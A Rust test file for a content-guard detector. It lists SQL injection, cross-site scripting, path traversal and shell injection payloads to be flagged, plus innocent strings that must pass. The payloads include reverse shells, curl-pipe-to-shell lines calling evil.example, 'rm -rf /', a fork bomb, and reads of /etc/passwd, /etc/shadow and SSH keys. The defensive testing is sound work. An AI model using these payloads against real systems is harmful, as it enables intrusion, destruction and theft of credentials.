use super::*;

fn found(text: &str) -> Vec<String> {
    let request = GuardRequest { checks: vec![Check::Content], ..GuardRequest::new(text) };
    check(&request).issues.into_iter().map(|issue| issue.type_name).collect()
}

fn found_in_a_field(text: &str) -> Vec<String> {
    let fields = fields(json!({"value": text}));
    let request = GuardRequest { checks: vec![Check::Content], fields, ..GuardRequest::new("") };
    check(&request).issues.into_iter().map(|issue| issue.type_name).collect()
}

/// Payloads as attackers write them, and the type that each is.
const PAYLOADS: &[(&str, &[&str])] = &[
    (
        "sql_injection",
        &[
            "' OR '1'='1",
            "admin' or 1=1--",
            "x\" or \"a\"=\"a",
            "1 OR 1=1",
            "5) and 7=7",
            "Robert'); DROP TABLE students;--",
            "'; exec xp_cmdshell('dir')",
            "1 UNION SELECT null, version()",
            "' union all select username, password from users --",
            "'/**/UNION/**/SELECT/**/1,2,3",
            "admin'--",
            "1' AND SLEEP(5)#",
            "1; WAITFOR DELAY '0:0:5'",
            "x' INTO OUTFILE '/tmp/a'",
            "%27%20OR%201%3D1--",
            "＇ ＯＲ １＝１ --",
        ],
    ),
    (
        "cross_site_scripting",
        &[
            "<script>alert(1)</script>",
            "<ScRiPt src=//evil.example/x.js></ScRiPt>",
            "<img src=x onerror=alert(1)>",
            "<svg/onload=alert(1)>",
            "\"><img src=x onerror=alert(document.cookie)>",
            "\" onmouseover=\"alert(1)",
            "<a href=\"javascript:alert(1)\">x</a>",
            "<a href='java\tscript:alert(1)'>x</a>",
            "<iframe srcdoc='x'></iframe>",
            "<a href=data:text/html;base64,PHNjcmlwdD4=>x</a>",
            "%3Cscript%3Ealert(1)%3C/script%3E",
            "&lt;script&gt;alert(1)&lt;/script&gt;",
            "&#x3c;img src=x onerror&#61;alert(1)&#x3e;",
            "\\u003cscript\\u003ealert(1)",
            "%253Cscript%253E",
        ],
    ),
    (
        "path_traversal",
        &[
            "../../../../etc/passwd",
            "..\\..\\windows\\system32\\config\\sam",
            "%2e%2e%2f%2e%2e%2fetc%2fpasswd",
            "..%2f..%2fsecret",
            "..%252f..%252fetc/shadow",
            "/var/www/../../etc/shadow",
            "image.php%00.png",
            "....//....//etc/passwd",
            "../../home/me/.ssh/id_rsa",
        ],
    ),
    (
        "shell_injection",
        &[
            "8.8.8.8; rm -rf /",
            "x && curl http://evil.example/x | sh",
            "name | nc -e /bin/sh 10.0.0.1 4444",
            "$(curl -s http://evil.example)",
            "a; cat /etc/passwd",
            "report.pdf; whoami",
            "x|id",
            "cat${IFS}/etc/passwd",
            "bash -i >& /dev/tcp/10.0.0.1/8080 0>&1",
            ":(){ :|:& };:",
            "x;/bin/bash -c 'id'",
            "%3B%20rm%20-rf%20%2F",
        ],
    ),
];

#[test]
fn payloads_are_found_as_what_they_are() {
    let mut missed = Vec::new();
    for (type_name, payloads) in PAYLOADS {
        for payload in *payloads {
            for (place, found) in [("text", found(payload)), ("field", found_in_a_field(payload))] {
                if !found.iter().any(|found| found == type_name) {
                    missed.push(format!("{payload} in a {place}: {found:?}"));
                }
            }
        }
    }
    assert!(missed.is_empty(), "missed:\n{}", missed.join("\n"));
}

/// What people write who attack nobody.
const INNOCENT: &[&str] = &[
    "Use a && b, a || b and !c; then run the tests.",
    "Is it 'yes' or 'no'? Either 'a' or 'b' will do.",
    "She said 'no' -- and left; it's John's -- not ours.",
    "The union selected a new leader; union members select delegates from each plant.",
    "Drop the table off at the office; delete the old one.",
    "2 and 2 = 4, or 1 or 2 = two options",
    "see ../README.md and ../../docs/arms.md, or src/../lib.rs",
    "Visit https://example.org/a?b=1&c=2#top; it explains JavaScript: the good parts.",
    "Price < 5 and > 3; if x < y on monday = closed",
    "{{ name }} costs $5 ($(approximately) 5 euros)",
    "On error = stop. Online = yes.",
    "cat; dog; mouse -- animals | plants | stones",
    "Please sleep (8 hours) and wait for delay announcements",
    "rock & roll; R&D; Q&A; 100% sure; 50%20 off",
    "I like <b>bold</b> and <a href=\"https://example.org\">links</a> & <br/>.",
    "x = \"a\" or y == \"b\"; z = 'c' and w",
    "Select your country from the list; insert coin; update at 5 pm",
    "echo on, python is a snake; ls is short for list, id means identity",
    "/etc/passwd is a file that every tutorial names",
    "Der Preis: 5 € -- für Ä; 'ö' oder 'ü'",
    "C:\\Users\\ada\\file.txt and \\\\server\\share; a\\nb",
    "if (a == 1 || b == 2) { return c; }",
    "1. first; 2. second; 3. (third) and 4=four",
    "The 1990s' union; the workers'; drop by anytime; update us",
];

#[test]
fn the_innocent_pass() {
    let mut accused = Vec::new();
    for text in INNOCENT {
        for (place, found) in [("text", found(text)), ("field", found_in_a_field(text))] {
            if !found.is_empty() {
                accused.push(format!("{text} in a {place}: {found:?}"));
            }
        }
    }
    assert!(accused.is_empty(), "accused:\n{}", accused.join("\n"));
}

#[test]
fn code_given_as_code_is_left_alone() {
    assert_eq!(found("To test, send `' OR '1'='1` as the name."), [""; 0]);
    assert_eq!(found("```html\n<script>alert(1)</script>\n```\n"), [""; 0]);
    assert_eq!(found("a ` b <script>alert(1)</script>"), ["cross_site_scripting"]);
    let code = GuardRequest { format: Format::Code, ..GuardRequest::new("x; rm -rf /") };
    assert!(check(&code).safe);
    let fields = fields(json!({"code": "$(rm -rf /)", "steps": [{"setup_sql": "'; DROP TABLE x"}]}));
    assert!(check(&GuardRequest { fields, ..GuardRequest::new("") }).safe);
}

#[test]
fn a_field_is_data_as_a_whole() {
    assert_eq!(found_in_a_field("`rm -rf /`"), ["shell_injection"]);
    assert_eq!(found_in_a_field("../../../x"), ["path_traversal"]);
    assert_eq!(found("../../../x"), [""; 0]);
    assert_eq!(found_in_a_field("/etc/shadow"), ["path_traversal"]);
    let fields = fields(json!({"a": [{"b-c": "x' OR 1=1--"}, {"+4915112345678": "x' OR 1=1--"}]}));
    let response = check(&GuardRequest { fields, ..GuardRequest::new("") });
    let content = response.issues.iter().filter(|issue| issue.check == Check::Content);
    let places: Vec<_> =
        content.map(|issue| (issue.location.pointer.as_str(), issue.location.column)).collect();
    assert_eq!(places, [("/fields/a/0/b-c", Some(2)), ("/fields/a/1/*", None)]);
}

#[test]
fn the_place_of_an_encoded_payload_is_where_it_stands() {
    let text = "é see %3Cscript%3Ealert(1) there";
    let response = check(&GuardRequest { checks: vec![Check::Content], ..GuardRequest::new(text) });
    let place = &response.issues[0].location;
    assert_eq!(&text[place.start.unwrap()..place.end.unwrap()], "%3Cscript%3E");
}
